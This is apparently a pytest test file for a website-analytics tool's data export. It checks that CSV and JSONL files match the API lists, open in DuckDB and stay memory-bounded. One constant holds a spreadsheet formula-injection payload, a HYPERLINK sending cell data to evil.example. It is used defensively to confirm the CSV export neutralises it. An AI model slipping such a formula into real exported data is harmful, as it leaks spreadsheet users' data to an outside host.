"""An export holds what the API answers, list by list, and opens in the tools that people load it into."""

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest

from chalicelib import clock
from chalicelib.domain.exports import Exported
from chalicelib.domain.search.periods import MOST_MONTHS, ending, months_before
from chalicelib.exports import archive
from chalicelib.exports.lists import LISTS
from chalicelib.exports.worker import reader_of
from chalicelib.http.cursors import refused
from chalicelib.store import websites
from tests import speed, stored_search
from tests.api import seed
from tests.api.client import Client
from tests.api.conftest import House
from tests.api.files import check_same, read, walk
from tests.domain.search.naive import Told

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"boots")'


def exported(house: House) -> tuple[zipfile.ZipFile, dict[str, Exported]]:
    website = websites.get(house.site.workspace_id, house.site.id)
    assert website is not None
    with archive.written(reader_of(website), website, lambda: None) as (file, lists):
        return zipfile.ZipFile(io.BytesIO(file.read())), {one.name: one for one in lists}


def lines(found: zipfile.ZipFile, name: str) -> list[Any]:
    return [json.loads(line) for line in found.read(f"{name}.jsonl").decode().splitlines()]


def rows(found: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return read(found.read(f"{name}.csv").decode())


@pytest.fixture
def full(house: House) -> House:
    """A website of 420 pages with search data, analytics, changes, tests and an issue on most of its pages."""
    seed.settled(house.site, count=420, affected=300)
    seed.connected(house.site)
    days = ending(stored_search.today() - timedelta(3), 60)
    told = {day: [Told(f"query {number}", 1, 2, 3.0) for number in range(200)] for day in list(days.days())[-3:]}
    told[days.last].append(Told(FORMULA, 900, 1_000, 1.0))
    stored_search.put_rows(house.site, "query", told, days)
    speed.stored(house.site.id, [speed.result(seed.url(house.site, number)) for number in range(3)])
    return house


def of_the_api(api: Client, house: House) -> dict[str, list[Any]]:
    """Every list of an export, as the API answers it."""
    site, today = f"/sites/{house.site.id}", clock.utc(clock.now()).date()
    search = f"{site}/search/rows?from={months_before(today, MOST_MONTHS)}&to={today}&limit=100&dimension="
    every = "open,in_progress,resolved,reopened,ignored"
    issues = api.get(f"{site}/issues?status={every}").json["issues"]
    batches = walk(api, f"{site}/changes?limit=2", "batches")
    visibility = api.get(f"{site}/ai-visibility?weeks=12&limit=1000").json["weeks"]
    return {
        "issues": issues,
        "issues_pages": [
            {"issueId": issue["id"]}
            | {name: issue[name] for name in ("ruleId", "title", "category", "severity", "status")}
            | page
            for issue in issues
            for page in api.get(f"{site}/issues/{issue['id']}").json["pages"]
        ],
        "pages": walk(api, f"{site}/pages?per=50", "pages"),
        "actions": walk(api, f"{site}/actions?limit=1", "actions"),
        "audits": walk(api, f"{site}/audits?limit=1", "audits"),
        "scores": api.get(f"{site}/scores?detail=audits").json["audits"],
        "change_batches": batches,
        "changes": [
            {"batchId": batch["batchId"]} | change
            for batch in batches
            for change in api.get(f"{site}/changes/{batch['batchId']}").json["changes"]
        ],
        "search_dates": walk(api, search + "date", "rows"),
        "search_queries": walk(api, search + "query", "rows"),
        "search_pages": walk(api, search + "page", "rows"),
        "search_query_pages": walk(api, search + "query_page", "rows"),
        "topics": walk(api, f"{site}/topics?minPages=1&limit=1", "topics"),
        "landing_pages": walk(api, f"{site}/analytics/pages?limit=1", "rows"),
        "speed_tests": walk(api, f"{site}/performance?", "pages"),
        "agentic": walk(api, f"{site}/agentic?per=1", "results"),
        "ai_visibility": [{"week": week["week"]} | prompt for week in visibility for prompt in week["prompts"]],
    }


def test_each_exported_file_equals_the_paged_list(full: House, api: Client) -> None:
    found, told = exported(full)
    expected = of_the_api(api, full)
    assert expected.keys() == told.keys() == {one.name for one in LISTS}
    empty = {name for name, items in expected.items() if not items}
    assert empty <= {"ai_visibility", "search_query_pages"}, "the others show something"
    for name, items in expected.items():
        assert lines(found, name) == items, name
        assert told[name].rows == len(items)
        check_same(rows(found, name), items)


def test_the_readme_of_an_export_describes_each_column_and_missing_parts(house: House) -> None:
    seed.audited(house.site)
    found, told = exported(house)
    names = set(found.namelist())
    text = found.read("README.md").decode()
    assert told["search_queries"].rows is None and told["landing_pages"].rows is None
    for one in LISTS:
        assert f"## {one.name}\n" in text
        there = told[one.name].rows is not None
        assert {f"{one.name}.csv", f"{one.name}.jsonl"} <= names if there else one.name not in str(names)
        if there:
            header = next(csv.reader(io.StringIO(found.read(f"{one.name}.csv").decode(), newline="")))
            counted = "1 row" if told[one.name].rows == 1 else f"{told[one.name].rows} rows"
            assert f"\n{counted}. Columns: {', '.join(header)}." in text
    assert "Not in this export: The website is connected to no search data." in text


def test_exported_lists_are_empty_before_the_first_audit(house: House) -> None:
    found, told = exported(house)
    assert told["issues"].rows == told["pages"].rows == 0
    assert found.read("issues.jsonl") == b"" and found.read("issues.csv").count(b"\r\n") == 1


def test_formulas_are_quoted_in_csv_and_unchanged_in_json(full: House) -> None:
    found, _ = exported(full)
    assert rows(found, "search_queries")[0]["query"] == "'" + FORMULA
    assert lines(found, "search_queries")[0]["query"] == FORMULA


def test_duckdb_opens_every_exported_file(full: House, tmp_path: Path) -> None:
    found, told = exported(full)
    found.extractall(tmp_path)
    database = duckdb.connect()
    for one in told.values():
        if one.rows:
            for function, ending_ in (("read_csv", "csv"), ("read_json", "jsonl")):
                path = tmp_path / f"{one.name}.{ending_}"
                options = ", header = true" if function == "read_csv" else ", format = 'newline_delimited'"
                count = database.execute(f"SELECT count(*) FROM {function}('{path}'{options})").fetchall()
                assert count == [(one.rows,)], path.name
    clicks = database.execute(f"SELECT sum(clicks) FROM read_csv('{tmp_path / 'search_queries.csv'}')").fetchall()
    assert clicks == [(sum(row["clicks"] for row in lines(found, "search_queries")),)]


def test_an_export_starts_again_if_an_import_replaces_its_data(full: House, monkeypatch: pytest.MonkeyPatch) -> None:
    fails = [True, True]
    write = archive._write

    def replaced(*arguments: Any) -> Any:
        if fails:
            fails.pop()
            raise refused()
        return write(*arguments)

    monkeypatch.setattr(archive, "_write", replaced)
    assert exported(full)[1]["issues"].rows == 2
    fails += [True] * archive.TRIES
    with pytest.raises(archive.Changing):
        exported(full)


def test_an_export_keeps_only_one_page_of_a_list_in_memory(full: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counts the rows that are in memory at once."""
    most: list[int] = []
    lines_of = archive.csv.lines

    def counted(part: Any) -> str:
        rows = list(part)
        most.append(len(rows))
        return lines_of(rows)

    monkeypatch.setattr(archive.csv, "lines", counted)
    _, told = exported(full)
    assert told["pages"].rows == 420 and max(most) <= 1_000
    assert most.count(200) >= 2, "pages come by the answer"
